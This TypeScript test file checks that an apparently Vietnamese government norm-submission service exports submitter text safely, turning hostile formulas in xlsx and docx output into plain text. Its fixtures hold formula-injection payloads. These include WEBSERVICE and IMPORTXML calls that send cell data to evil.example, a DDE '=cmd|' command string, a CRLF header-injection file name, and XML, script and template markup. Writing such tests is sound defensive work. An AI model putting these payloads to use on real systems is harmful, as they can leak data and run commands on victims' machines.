/** What strangers write comes out of every export as text: no formula of theirs that runs, fetches or sends. */
import { beforeAll, describe, expect, test } from "vitest";
import type { NormProposal, SentServices } from "../../shared/contract/norm-proposal.ts";
import type { Publication } from "../../shared/contract/publications.ts";
import type { Receipt } from "../../shared/contract/submission.ts";
import { day } from "../../shared/kernel/date.ts";
import { quantity } from "../../shared/kernel/quantity.ts";
import { mustOk } from "../../shared/kernel/result.ts";
import type { FlatWorkbook } from "../../shared/kernel/flat.ts";
import { builtinLawBook } from "../../shared/law/book.ts";
import { PROVINCES } from "../../shared/law/provinces.ts";
import { buildFlatWorkbook } from "../../shared/workbook/build.ts";
import { readXlsx } from "../../shared/workbook/xlsx/index.ts";
import { openZip, readPart } from "../../shared/workbook/xlsx/zip.ts";
import { PERSON_OF, act, call, callJson, goodWorkbook, order, seedAll, send, tokenOf } from "../test-kit.ts";

beforeAll(seedAll);

/** Texts that a spreadsheet would read as formulas if they were typed into it. */
const TEXTS = [
  "=1+1",
  "+84 912",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
];

/** Formulas that must not leave the house, with the value their sender claims. */
const FORMULAS = [
  '=WEBSERVICE("http://evil.example/?"&A1)',
  '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
  "=cmd|'/c calc'!A0",
  "='[gia.xlsx]Sheet1'!A1",
  '=IMPORTXML("http://evil.example","//a")',
];

function hostile(): FlatWorkbook {
  const base = goodWorkbook("Quảng Ninh", `=HYPERLINK("http://evil.example","Đề án")`);
  const cells = Object.fromEntries([
    ...TEXTS.map((value, index) => [`A${index + 1}`, { value }]),
    ...FORMULAS.map((formula, index) => [`B${index + 1}`, { value: `kết quả ${index}`, formula }]),
    ["C1", { value: 3, formula: "=1+2" }],
  ]) as FlatWorkbook["sheets"][number]["cells"];
  return { ...base, sheets: [...base.sheets, { name: "Ghi chú riêng", cells }] };
}

async function file(id: string, kind: string): Promise<Uint8Array> {
  const answer = await call(`/api/v1/submissions/${id}/papers/${kind}`, {
    token: await tokenOf(PERSON_OF.ministry),
  });
  expect(answer.status, kind).toBe(200);
  expect(answer.headers.get("content-disposition")).toMatch(/^attachment; /);
  return new Uint8Array(await answer.arrayBuffer());
}

describe("exports of a hostile submission", () => {
  let id = "";
  beforeAll(async () => {
    const sent = await send(await tokenOf(PERSON_OF.drafter), {
      workbook: hostile(),
      fileName: '=1+1".xlsx\r\nx: y',
    });
    if (sent.status !== 201) throw new Error(await sent.text());
    id = ((await sent.json()) as Receipt).id;
    await act(id, PERSON_OF.province, "forward", '"v1"');
    await act(id, "tham-dinh-2", "receive", '"v2"');
    await act(id, PERSON_OF.ministry, "accept", '"v3"');
    const made = await order(id, PERSON_OF.ministry, '"v4"', { ordererName: "=1+1 <w:p/>" });
    if (made.status !== 201) throw new Error(await made.text());
  });

  test("the workbook: hostile formulas become their values, honest ones stay, texts stay texts", async () => {
    const book = mustOk(await readXlsx(await file(id, "so-lam-viec.xlsx")));
    const own = book.sheets.find(({ name }) => name === "Ghi chú riêng")?.cells ?? {};
    TEXTS.forEach((value, index) => expect(own[`A${index + 1}`]).toEqual({ value }));
    FORMULAS.forEach((_, index) => expect(own[`B${index + 1}`]).toEqual({ value: `kết quả ${index}` }));
    expect(own["C1"]).toEqual({ value: 3, formula: "=1+2" });
  });

  test("the appendix of the order: only our own sums are formulas", async () => {
    const book = mustOk(await readXlsx(await file(id, "phu-luc.xlsx")));
    const cells = book.sheets.flatMap((sheet) => Object.values(sheet.cells));
    const formulas = cells.flatMap(({ formula }) => (formula === undefined ? [] : [formula]));
    expect(formulas.length).toBeGreaterThan(0);
    for (const formula of formulas) expect(formula).toMatch(/^=(SUM\(|[A-Z]+\d+(\+[A-Z]+\d+)*$)/);
    expect(cells.some(({ value }) => String(value).startsWith("=HYPERLINK("))).toBe(true);
  });

  test("the decision: markup in names is text, and no field fetches anything", async () => {
    const zip = mustOk(openZip(await file(id, "quyet-dinh.docx")));
    const xml = new TextDecoder().decode(mustOk(readPart(zip, "word/document.xml")) ?? new Uint8Array());
    expect(xml).toContain("=1+1 &lt;w:p/&gt;");
    expect(xml).not.toMatch(/<w:(instrText|hyperlink|altChunk)/);
  });
});

const SERVICE = '=HYPERLINK("http://evil.example","Tư vấn")';
const RESOURCES = ["=cmd|'/c calc'!A0", '<w:p/>"]]><script>{{dinhMuc}}', "{#dinhMuc}@SUM(A1)"];
/** With so many provinces behind a service the annex names them and where each figure stands. */
const SENDERS = PROVINCES.slice(0, 10);

/** A norm whose every text is hostile; the figures lie close together, and one is a thousand times too great. */
function hostileNorm(provinceName: string, at: number): FlatWorkbook {
  const amount = (line: number) => quantity(String((10 + line + (at % 3)) * (at === 9 ? 1000 : 1)));
  const base = goodWorkbook(provinceName);
  const norms = buildFlatWorkbook(
    {
      info: { province: provinceName, organisation: "=1+1", year: 2019, asOf: day("2019-01-15") },
      deAn: [],
      costLines: [],
      normLines: RESOURCES.map((resource, line) => ({
        code: `T${at}`,
        type: "VL",
        resource,
        unit: "@SUM(A1)<b>",
        quantity: amount(line),
        ...(line === 0
          ? { name: SERVICE, serviceUnit: "=1+1", content: 5, process: SERVICE, quality: SERVICE }
          : {}),
      })),
    },
    builtinLawBook(),
  );
  const own = norms.sheets.filter(({ name }) => name === "KC_DinhMuc");
  return { ...base, sheets: [...base.sheets.filter(({ name }) => name !== "KC_DinhMuc"), ...own] };
}

describe("the evidence of a draft norm book made from hostile norms", () => {
  let published: Publication;
  async function annex(kind: "xlsx" | "docx"): Promise<Uint8Array> {
    const answer = await call(`/api/v1/publications/evidence?id=${published.id}&file=${kind}`, {
      token: await tokenOf("tham-dinh-1"),
    });
    expect(answer.status).toBe(200);
    return new Uint8Array(await answer.arrayBuffer());
  }

  beforeAll(async () => {
    for (const [at, { code, name }] of SENDERS.entries()) {
      const sent = await send(await tokenOf(`soan-${code}`), { workbook: hostileNorm(name, at) });
      if (sent.status !== 201) throw new Error(await sent.text());
      const { id } = (await sent.json()) as Receipt;
      const forwarded = await act(id, `duyet-${code}`, "forward", `"v1"`);
      if (!forwarded.ok) throw new Error(await forwarded.text());
    }
    const token = await tokenOf("quan-tri");
    const { items } = await callJson<SentServices>("/api/v1/norm-proposals/services", { token });
    const services = items.filter(({ name }) => name === SERVICE).map(({ key }) => key);
    const question = { services, from: "2027-01-01" };
    const preview = "/api/v1/norm-proposals/preview";
    const { figuresHash } = await callJson<NormProposal>(preview, { token, body: question });
    published = await callJson<Publication>("/api/v1/norm-proposals", {
      token,
      body: { ...question, reason: "=1+1", figuresHash },
    });
  });

  test("the figures: what provinces wrote is there as text, and no cell is a formula", async () => {
    const bytes = await annex("xlsx");
    const book = mustOk(await readXlsx(bytes));
    const cells = book.sheets.flatMap((sheet) => Object.values(sheet.cells));
    expect(cells.filter(({ formula }) => formula !== undefined)).toEqual([]);
    const written = new Set(cells.map(({ value }) => value));
    for (const text of [SERVICE, "@SUM(A1)<b>", ...RESOURCES]) expect(written, text).toContain(text);
    const zip = mustOk(openZip(bytes));
    for (const name of zip.entries.keys()) {
      expect(name).not.toMatch(/externalLink|vbaProject|embeddings|connections/i);
      const xml = new TextDecoder().decode(mustOk(readPart(zip, name)) ?? new Uint8Array());
      expect(xml, name).not.toMatch(/<f[ >]|<script|TargetMode="External"/);
    }
  });

  test("the explanation: marks of templates and markup stay letters, and no field fetches anything", async () => {
    const zip = mustOk(openZip(await annex("docx")));
    const xml = new TextDecoder().decode(mustOk(readPart(zip, "word/document.xml")) ?? new Uint8Array());
    expect(xml).toContain("=HYPERLINK(");
    for (const text of ["=cmd|", "&lt;w:p/&gt;", "{{dinhMuc}}", "{#dinhMuc}@SUM(A1)", "@SUM(A1)&lt;b&gt;"])
      expect(xml, text).toContain(text);
    expect(xml).not.toMatch(/<w:(instrText|fldSimple|hyperlink|altChunk)|<script/);
    const links = new TextDecoder().decode(
      mustOk(readPart(zip, "word/_rels/document.xml.rels")) ?? new Uint8Array(),
    );
    expect(links).not.toMatch(/TargetMode="External"/);
  });
});
